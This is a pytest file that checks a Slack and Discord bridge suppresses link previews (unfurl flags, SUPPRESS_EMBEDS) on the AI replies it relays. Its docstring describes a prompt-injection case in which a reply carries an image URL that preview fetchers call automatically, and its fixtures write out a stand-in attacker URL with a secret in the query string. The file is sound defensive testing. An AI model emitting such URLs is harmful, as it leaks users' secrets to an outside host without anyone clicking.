"""Replies show no link previews unless BRIDGE_LINK_PREVIEWS=on.

A prompt-injected reply can carry `https://evil.example/x.png?d=<secret>`: Slack's and
Discord's preview fetchers would call it without anyone clicking. So by default every Slack
chat.postMessage of a reply carries `unfurl_links=false` and `unfurl_media=false` (the
chat.postMessage reference; chat.update and chat.startStream document neither argument), and
every Discord create and edit carries the SUPPRESS_EMBEDS flag (1 << 2; Create Message and Edit
Message take `flags`). Real slack-bolt / slack_sdk / discord.py, real Redis, the emulators.
"""

from __future__ import annotations

from typing import Any

import pytest

from emulators.base import Call, Fault
from emulators.discord.messages import SUPPRESS_EMBEDS
from emulators.slack.args import call_args
from tests.harness import discord_bridge, rate_for, slack_bridge

CHANNEL = "C1"
LINK = "https://evil.example/x.png?d=secret"
TEXT = (
    f"Here is the picture you asked about: {LINK}\n\n"
    "It shows the chart, and the numbers are in the second column. "
    f"The same link again, as markdown: [chart]({LINK}). That is all."
)


def posts_to(calls: list[Call], root: str) -> list[dict[str, Any]]:
    """The arguments of each chat.postMessage into thread `root`."""
    return [a for a in map(call_args, calls) if a.get("thread_ts") == root]


@pytest.mark.parametrize("setting", [None, "off", "on"])
async def test_slack_posts_ask_for_no_unfurls(
    redis_url: str, prefix: str, setting: str | None
) -> None:
    """Edit mode: the reply is posted, then grows by chat.update, over a few edits."""
    overrides = {} if setting is None else {"bridge_link_previews": setting}
    async with slack_bridge(
        redis_url,
        prefix,
        tokens_per_second=rate_for(TEXT, 1.5),
        slack_reply_mode="edit",
        **overrides,
    ) as env:
        env.neuroflash.script(TEXT)
        root = await env.slack.user_post(CHANNEL, "<@UBOT> show me")
        await env.wait_reply(CHANNEL, root, TEXT)
        (message,) = env.replies(CHANNEL, root)
        assert len(message.edits) >= 2, "the reply grew by edits"
        (post,) = posts_to(env.slack.calls_to("/api/chat.postMessage"), root)
        if setting == "on":
            assert "unfurl_links" not in post and "unfurl_media" not in post
            assert (message.unfurl_links, message.unfurl_media) == (None, None)
        else:
            assert (post["unfurl_links"], post["unfurl_media"]) == (False, False)
            assert (message.unfurl_links, message.unfurl_media) == (False, False)


@pytest.mark.parametrize("setting", ["off", "on"])
async def test_slack_long_reply_pages_and_stream_fallback_ask_for_no_unfurls(
    redis_url: str, prefix: str, setting: str
) -> None:
    """Stream mode: a stream that cannot be opened falls back to a post, and a reply longer
    than a page posts more messages: every one of them asks for no unfurls (off)."""
    page = f"A sentence with a link {LINK} that goes on for a while to fill the page. " * 8
    text = "\n\n".join([page] * 10) + "\n\nThe end."
    async with slack_bridge(
        redis_url, prefix, tokens_per_second=5000, bridge_link_previews=setting
    ) as env:
        env.slack.fail_next("chat.startStream", Fault("status", 429, headers={"Retry-After": "1"}))
        env.neuroflash.script(text)
        root = await env.slack.user_post(CHANNEL, "<@UBOT> long please")
        await env.wait_reply(CHANNEL, root, text, timeout=30)
        assert len(env.replies(CHANNEL, root)) >= 2
        posts = posts_to(env.slack.calls_to("/api/chat.postMessage"), root)
        assert posts, "the stream fell back to chat.postMessage"
        sent = {(p.get("unfurl_links"), p.get("unfurl_media")) for p in posts}
        assert sent == ({(None, None)} if setting == "on" else {(False, False)})


def reply_writes(calls: list[Call], thread_id: int) -> list[dict[str, Any]]:
    """The bodies of the bot's message creates and edits in a thread."""
    path = f"/channels/{thread_id}/messages"
    return [
        c.body
        for c in calls
        if isinstance(c.body, dict)
        and (
            (c.method == "POST" and c.path.endswith(path))
            or (c.method == "PATCH" and path + "/" in c.path)
        )
    ]


@pytest.mark.parametrize("setting", [None, "off", "on"])
async def test_discord_writes_suppress_embeds(
    redis_url: str, prefix: str, setting: str | None
) -> None:
    overrides = {} if setting is None else {"bridge_link_previews": setting}
    async with discord_bridge(
        redis_url, prefix, tokens_per_second=rate_for(TEXT, 3.0), **overrides
    ) as env:
        emu = env.discord
        env.neuroflash.script(TEXT)
        post = await emu.user_message(emu.channel.id, "show me", mentions_bot=True)
        await env.wait(lambda: env.discord_text(post.id) == TEXT, timeout=30)
        writes = reply_writes(emu.calls, post.id)
        assert len(writes) >= 2, "posted, then edited"
        (reply,) = emu.bot_messages(post.id)
        flags = [int(w.get("flags") or 0) for w in writes]
        if setting == "on":
            assert all(f & SUPPRESS_EMBEDS == 0 for f in flags), flags
            assert reply.flags & SUPPRESS_EMBEDS == 0
        else:
            assert all(f & SUPPRESS_EMBEDS for f in flags), flags
            assert reply.flags & SUPPRESS_EMBEDS
